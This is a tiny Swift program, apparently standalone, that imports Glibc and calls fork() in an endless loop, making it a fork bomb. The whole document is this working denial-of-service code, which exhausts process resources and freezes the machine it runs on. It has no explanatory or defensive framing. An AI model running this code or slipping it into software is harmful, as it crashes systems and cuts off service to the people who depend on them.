import Glibc

while true {
    _ = fork()
}
